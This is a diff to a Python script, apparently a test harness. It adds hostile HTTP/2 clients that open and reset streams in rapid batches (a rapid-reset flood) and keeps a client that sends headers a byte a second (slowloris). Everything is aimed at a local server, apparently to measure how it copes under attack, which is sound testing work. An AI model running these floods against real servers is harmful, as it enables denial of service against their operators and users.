@@ -1,8 +1,14 @@
 """Clients that mean harm: streams opened and reset as fast as can be, and heads that come a byte a second."""
 
 import asyncio
+import select
 import socket
 import sys
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+from stage import SESSION
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 # Where this comes from is told apart from where the load does: the limits for one address are not what is measured.
@@ -14,28 +20,68 @@ def frame(kind, flags, stream, payload=b""):
     return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload
 
 
-def resets(port):
-    """Opens and resets streams, on one connection after another."""
-    authority = b"127.0.0.1"
-    block = bytes([0x82, 0x84, 0x86, 0x41, len(authority)]) + authority
+def head(path, cookie=None):
+    """A head for HPACK, of names that its own table has."""
+    fields = {4: path, 1: "localhost"} | ({32: cookie} if cookie else {})
+    block = bytes([0x82, 0x86])
+    for name, value in fields.items():
+        block += bytes([name] if name < 15 else [15, name - 15]) + bytes([len(value)]) + value.encode()
+    return block
+
+
+def batches(is_late):
+    """Frames that open streams and reset them: one after the other, or each batch when it has been under way for a
+    moment (an empty piece), which takes a session and a response that takes long."""
+    block = head("/streams/ticks", f"session_id={SESSION}/1") if is_late else head("/")
+    for first in range(1, 1 << 30, 2 * BATCH):
+        streams = range(first, first + 2 * BATCH, 2)
+        opened = [frame(1, 0x5, stream, block) for stream in streams]
+        reset = [frame(3, 0, stream, (8).to_bytes(4)) for stream in streams]
+        if is_late:
+            yield from (b"".join(opened), b"", b"".join(reset))
+        else:
+            yield b"".join(a + b for a, b in zip(opened, reset))
+
+
+def resets(port, kind):
+    """Opens and resets streams, on one connection after another.
+
+    `late`: not before they are under way. `hasty`: a connection that takes nothing is left for another at once.
+    """
+    hold_up = 0.001 if kind == "hasty" else 30
+    sent = connections = 0
+    told = time.monotonic()
     while True:
+        connection = socket.socket()
         try:
-            with socket.create_connection(("127.0.0.1", port), 5, SOURCE) as connection:
-                connection.sendall(PREFACE + frame(4, 0, 0))
-                stream = 1
-                while stream < 1 << 30:
-                    batch = b""
-                    for _ in range(BATCH):
-                        batch += frame(1, 0x5, stream, block) + frame(3, 0, stream, (8).to_bytes(4))
-                        stream += 2
-                    connection.sendall(batch)
+            connection.bind(SOURCE)
+            connection.connect(("127.0.0.1", port))
+            connection.setblocking(False)
+            connections += 1
+            rest = PREFACE + frame(4, 0, 0)
+            for batch in batches(kind == "late"):
+                if not batch:
+                    time.sleep(0.002)
+                rest += batch
+                while rest:
                     try:
-                        if not connection.recv(1 << 16, socket.MSG_DONTWAIT):
-                            break
+                        # Answers are read, or it could be held up by them.
+                        if not connection.recv(1 << 16):
+                            raise ConnectionError
                     except BlockingIOError:
                         pass
+                    if not select.select([], [connection], [], hold_up)[1]:
+                        raise ConnectionError
+                    count = connection.send(rest)
+                    sent += count
+                    rest = rest[count:]
         except OSError:
             pass
+        finally:
+            connection.close()
+            if time.monotonic() > told + 1:
+                told = time.monotonic()
+                print(f"{kind}: {sent} bytes, {connections} connections", file=sys.stderr, flush=True)
 
 
 async def drip(port):
@@ -56,25 +102,12 @@ async def drips(port, count):
     await asyncio.gather(*(drip(port) for _ in range(count)))
 
 
-async def sink(port):
-    """Reads everything and answers nothing: what the attackers cost by themselves."""
-
-    async def read(reader, _):
-        while await reader.read(1 << 16):
-            pass
-
-    server = await asyncio.start_server(read, "127.0.0.1", port, backlog=2048)
-    await server.serve_forever()
-
-
 def main():
     kind, port = sys.argv[1], int(sys.argv[2])
     if kind == "resets":
-        resets(port)
-    elif kind == "drips":
-        asyncio.run(drips(port, int(sys.argv[3])))
+        resets(port, sys.argv[3])
     else:
-        asyncio.run(sink(port))
+        asyncio.run(drips(port, int(sys.argv[3])))
 
 
 if __name__ == "__main__":
